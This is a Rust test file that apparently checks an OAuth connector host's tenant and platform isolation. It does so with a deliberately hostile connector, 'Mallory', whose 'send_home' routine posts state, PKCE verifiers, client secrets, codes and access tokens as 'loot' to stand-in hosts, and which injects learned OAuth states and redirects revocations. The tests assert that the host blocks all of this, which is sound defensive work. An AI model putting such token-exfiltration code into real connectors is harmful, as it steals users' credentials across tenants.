//! A connector that means harm to the others it is linked with: what it gets is its own platform's, and it changes nothing of another tenant.
#![cfg(all(feature = "sqlite", feature = "testing"))]
#![expect(clippy::unwrap_used, reason = "what helps a test may fail it")]

use std::sync::Arc;

use async_trait::async_trait;
use connector_core::account::{Account, Accounts, Session};
use connector_core::grant::Grant;
use connector_core::http::{Policy, RawAnswer, Request};
use connector_core::oauth::{
    BeginRequest, Begun, CallbackParams, NextStep, OAuthProvider, PendingFlow, RefreshClass, RefreshOutcome,
    RevocationClass, RevokeOutcome,
};
use connector_core::testing::FakeTransport;
use connector_core::{
    App, ConfiguredConnector, Connector, Context, Error, ErrorKind, Platform, Registry, Result, Secret,
};
use connector_host::store::{Connected, ConnectionFilter, StoreError};
use connector_host::testing::{Example, Installation, TENANT, callback, request};
use connector_host::{Callback, CameTo, ConnectRequest, Host, Revocation};
use http::Method;
use url::Url;

/// The platforms, by the names of their connectors.
const HONEST: &str = "example";
const HOSTILE: &str = "mallory";

const HONEST_HOST: &str = "example.test";
const HOSTILE_HOST: &str = "mallory.test";

/// No platform is there.
const ELSEWHERE: &str = "elsewhere.test";

/// Whose account the attacker is after.
const VICTIM: &str = "victim";
const ACCOUNT: &str = "p1";

/// Has the person go to the other platform, sends home whatever it is given, and says that every account is the victim's.
#[derive(Debug)]
struct Mallory(ConfiguredConnector);

impl Mallory {
    fn build(platform: &Platform) -> Arc<dyn Connector> {
        Arc::new(Self(ConfiguredConnector::new(platform)))
    }

    fn as_by_data(&self) -> &dyn OAuthProvider {
        self.0.oauth()
    }
}

/// Sends home what a call brought, and tries to send it to others first.
async fn send_home<'a>(cx: &Context, loot: impl IntoIterator<Item = &'a str>) {
    let loot: Vec<_> = loot.into_iter().map(|text| ("loot", text)).collect();
    let to = |host| {
        let url = format!("https://{host}/token").parse().unwrap();
        cx.send(Request::new(Method::POST, url, Policy::TOKEN).form(loot.iter().copied()))
    };
    for host in [ELSEWHERE, HONEST_HOST] {
        let refused = to(host).await.unwrap_err();
        assert!(refused.message.contains(host) && refused.message.contains("[base_urls]"), "{refused}");
    }
    to(HOSTILE_HOST).await.unwrap();
}

impl Connector for Mallory {
    fn oauth(&self) -> &dyn OAuthProvider {
        self
    }

    fn accounts(&self) -> &dyn Accounts {
        self
    }
}

#[async_trait]
impl OAuthProvider for Mallory {
    fn refresh_class(&self) -> RefreshClass {
        self.as_by_data().refresh_class()
    }

    /// A state that the attacker has learned comes with the address.
    async fn begin(&self, cx: &Context, app: &App, request: &BeginRequest) -> Result<Begun> {
        let mut asked = request.clone();
        asked.redirect_uri.set_query(None);
        let Begun { next: NextStep::Redirect(mut url), mut pending } = self.as_by_data().begin(cx, app, &asked).await?
        else {
            return Err(Error::config("the person is sent nowhere"));
        };
        url.set_host(Some(HONEST_HOST)).unwrap();
        if let Some(learned) = param(&request.redirect_uri, "state") {
            pending.state = learned.into();
        }
        Ok(Begun { next: NextStep::Redirect(url), pending })
    }

    async fn complete(&self, cx: &Context, app: &App, pending: &PendingFlow, came: &CallbackParams) -> Result<Grant> {
        let secrets = [&pending.state].into_iter().chain(&pending.verifier).chain(&app.client_secret);
        send_home(cx, secrets.map(Secret::expose).chain(came.one("code")?)).await;
        self.as_by_data().complete(cx, app, pending, came).await
    }

    fn callback_error(&self, came: &CallbackParams) -> Result<Option<Error>> {
        self.as_by_data().callback_error(came)
    }

    fn refresh_request(&self, app: &App, grant: &Grant) -> Result<Request> {
        self.as_by_data().refresh_request(app, grant)
    }

    fn read_refresh(&self, answer: &RawAnswer) -> RefreshOutcome {
        self.as_by_data().read_refresh(answer)
    }

    fn revocation(&self) -> RevocationClass {
        self.as_by_data().revocation()
    }

    fn revoke_request(&self, app: &App, grant: &Grant) -> Result<Request> {
        let mut request = self.as_by_data().revoke_request(app, grant)?;
        request.url.set_host(Some(ELSEWHERE)).unwrap();
        Ok(request)
    }

    fn read_revoke(&self, answer: &RawAnswer) -> RevokeOutcome {
        self.as_by_data().read_revoke(answer)
    }
}

#[async_trait]
impl Accounts for Mallory {
    async fn accounts(&self, cx: &Context, session: &Session) -> Result<Vec<Account>> {
        let tokens = &session.grant.tokens;
        send_home(cx, [&tokens.access].into_iter().chain(&tokens.refresh).map(Secret::expose)).await;
        Ok(vec![Account { id: ACCOUNT.to_owned(), profile: [].into_iter().collect() }])
    }
}

/// A host with both connectors, whose platforms' answers are the test's.
struct Bench {
    platforms: FakeTransport,
    host: Host,
    _installation: Installation,
}

impl Bench {
    async fn new() -> Self {
        let platforms = FakeTransport::default();
        let honest = Example::default();
        let origin = format!("https://{HOSTILE_HOST}");
        let hostile = Example { id: HOSTILE, origin, revoke: Some("access"), ..Example::default() };
        let installation = Installation::new(honest.clone(), platforms.context()).unwrap();
        let mut opening = installation.opening().await.unwrap();
        opening.registry = Registry::new([honest.registration(), hostile.registered(Mallory::build)]).unwrap();
        let theirs = hostile.settings_in(installation.parent()).unwrap();
        opening.settings.platforms.extend(theirs.platforms);
        Self { host: Host::open(opening).await.unwrap().host, platforms, _installation: installation }
    }

    /// Begins a flow and gives where the person is sent.
    async fn begin(&self, tenant: &str, platform: &str, redirect_uri: Option<Url>) -> connector_host::Result<Url> {
        let usual = request().unwrap();
        let redirect_uri = redirect_uri.unwrap_or_else(|| at(platform));
        let asked =
            ConnectRequest { tenant: tenant.to_owned(), platform: platform.parse().unwrap(), redirect_uri, ..usual };
        Ok(self.host.connect(asked).await?.authorize_url)
    }

    /// Connects the account at a platform, which gives tokens that name it and the tenant.
    async fn connect(&self, tenant: &str, platform: &str) {
        let url = self.begin(tenant, platform, None).await.unwrap();
        let back = back(platform, &format!("{platform}-code"), &param(&url, "state").unwrap());
        let tokens = format!(
            r#"{{ "access_token": "{platform}-access-{tenant}", "refresh_token": "{platform}-refresh-{tenant}", "expires_in": 7200, "scope": "read" }}"#
        );
        let home = || self.platforms.answer(200, "{}");
        if platform == HOSTILE {
            home();
        }
        self.platforms.answer(200, tokens);
        if platform == HOSTILE {
            home();
        } else {
            self.platforms.answer(200, format!(r#"{{ "id": "{ACCOUNT}", "name": "Somebody", "followers": 7 }}"#));
        }
        assert_eq!(self.host.complete(back).await.unwrap().finished.unwrap().linked.len(), 1);
    }

    async fn connections(&self, tenant: &str) -> Vec<Connected> {
        let filter = ConnectionFilter { tenant: tenant.to_owned(), ..ConnectionFilter::default() };
        self.host.store().connections(&filter).await.unwrap()
    }

    async fn ends_no_flow(&self, callback: Callback) {
        let error = self.host.complete(callback).await.unwrap_err();
        assert_eq!(error.kind(), Some(&ErrorKind::InvalidCallback), "{error}");
        assert_eq!(self.platforms.sent().len(), 0, "nothing was sent to anybody");
    }

    /// Everything that was sent to a host.
    fn sent_to(&self, host: &str) -> String {
        let sent = self.platforms.sent();
        let texts = sent.iter().filter(|request| request.url.host_str() == Some(host)).map(|request| {
            format!("{} {:?} {}\n", request.url, request.headers, String::from_utf8_lossy(&request.body))
        });
        texts.collect()
    }
}

fn param(url: &Url, name: &str) -> Option<String> {
    url.query_pairs().find(|(key, _)| key == name).map(|(_, value)| value.into_owned())
}

/// The address that a platform has for its callbacks.
fn at(platform: &str) -> Url {
    format!("http://127.0.0.1:5000/oauth/callback/{platform}").parse().unwrap()
}

/// What the browser brings to the path of a platform.
fn back(platform: &str, code: &str, state: &str) -> Callback {
    let came_to = CameTo::Path { platform: platform.parse().unwrap(), app: Example::APP.to_owned() };
    Callback { came_to, ..callback(&format!("code={code}&state={state}")).unwrap() }
}

#[tokio::test]
async fn a_code_of_another_platform_is_not_exchanged_by_the_flow_that_had_the_person_fetch_it() {
    let bench = Bench::new().await;
    let url = bench.begin(TENANT, HOSTILE, None).await.unwrap();
    assert_eq!(url.host_str(), Some(HONEST_HOST), "the person sees the consent page of the honest platform");
    let state = param(&url, "state").unwrap();
    // A platform sends its codes to the addresses that are registered there: to its own path, whatever the state.
    bench.ends_no_flow(back(HONEST, "honest-code", &state)).await;
    let tenant = TENANT.to_owned();
    let came_to = CameTo::Product { tenant, redirect_uri: Some(at(HONEST)) };
    bench.ends_no_flow(Callback { came_to, ..back(HONEST, "honest-code", &state) }).await;
    assert_eq!(bench.connections(TENANT).await, []);
}

#[tokio::test]
async fn a_callback_is_not_taken_at_the_path_of_another_platform_nor_used_up_there() {
    let bench = Bench::new().await;
    let state = param(&bench.begin(VICTIM, HONEST, None).await.unwrap(), "state").unwrap();
    bench.ends_no_flow(back(HOSTILE, "honest-code", &state)).await;

    let mut with_state = at(HOSTILE);
    with_state.query_pairs_mut().append_pair("state", &state);
    let taken_over = bench.begin(TENANT, HOSTILE, Some(with_state)).await.unwrap_err();
    assert!(
        matches!(taken_over, connector_host::Error::Store(StoreError::Conflict(_))),
        "a state is of one flow: {taken_over}"
    );
    bench.ends_no_flow(back(HOSTILE, "honest-code", &state)).await;

    bench.platforms.answer(200, r#"{ "access_token": "a", "expires_in": 7200, "scope": "read" }"#);
    bench.platforms.answer(200, format!(r#"{{ "id": "{ACCOUNT}", "name": "Somebody", "followers": 7 }}"#));
    bench.host.complete(back(HONEST, "honest-code", &state)).await.unwrap().finished.unwrap();
    assert!(bench.sent_to(HONEST_HOST).contains("honest-code"));
    assert_eq!(bench.sent_to(HOSTILE_HOST), "");
    assert_eq!((bench.connections(VICTIM).await.len(), bench.connections(TENANT).await.len()), (1, 0));
}

#[tokio::test]
async fn what_it_says_of_its_accounts_changes_nothing_of_another_platform_or_tenant() {
    let bench = Bench::new().await;
    for platform in [HONEST, HOSTILE] {
        bench.connect(VICTIM, platform).await;
    }
    bench.connect(TENANT, HONEST).await;
    let (victims, own) = (bench.connections(VICTIM).await, bench.connections(TENANT).await);
    bench.connect(TENANT, HOSTILE).await;
    assert_eq!(bench.connections(VICTIM).await, victims);
    let now = bench.connections(TENANT).await;
    assert_eq!((now.len(), &now[..1]), (2, &own[..]), "the account at another platform is another account");
    let made = &now[1].connection;
    assert_eq!((made.platform.as_str(), made.account_id.as_str()), (HOSTILE, ACCOUNT));
}

#[tokio::test]
async fn it_gets_the_tokens_of_the_call_alone() {
    let bench = Bench::new().await;
    for (tenant, platform) in [(VICTIM, HONEST), (VICTIM, HOSTILE), (TENANT, HONEST)] {
        bench.connect(tenant, platform).await;
    }
    let before = bench.sent_to(HOSTILE_HOST);
    bench.connect(TENANT, HOSTILE).await;
    let (loot, honest) = (bench.sent_to(HOSTILE_HOST), bench.sent_to(HONEST_HOST));
    for own in ["mallory-code", "mallory-access-default"] {
        assert!(loot[before.len()..].contains(own), "{own} is looked for where it would be: {loot}");
    }
    assert!(!loot[before.len()..].contains(VICTIM), "{loot}");
    for theirs in ["example-code", "example-access", "example-refresh"] {
        assert!(!loot.contains(theirs), "{theirs}: {loot}");
    }
    assert!(!loot.contains("mallory-refresh"), "no call needs a refresh token: {loot}");
    assert!(honest.contains("example-code") && !honest.contains("mallory-code"), "each code goes to its own platform");
    assert_eq!(bench.sent_to(ELSEWHERE), "", "what it is given goes to its own platform alone");
}

#[tokio::test]
async fn a_request_that_it_writes_for_the_host_goes_to_its_own_platform_or_nowhere() {
    let bench = Bench::new().await;
    bench.connect(TENANT, HOSTILE).await;
    let id = bench.connections(TENANT).await[0].connection.id.clone();
    let before = bench.platforms.sent().len();
    let given_up = bench.host.disconnect(TENANT, &id).await.unwrap();
    let Revocation::Pending(error) = given_up.revocation else { panic!("{:?}", given_up.revocation) };
    assert!(error.to_string().contains("https://elsewhere.test was not sent"), "{error}");
    assert_eq!(bench.platforms.sent().len(), before);
}
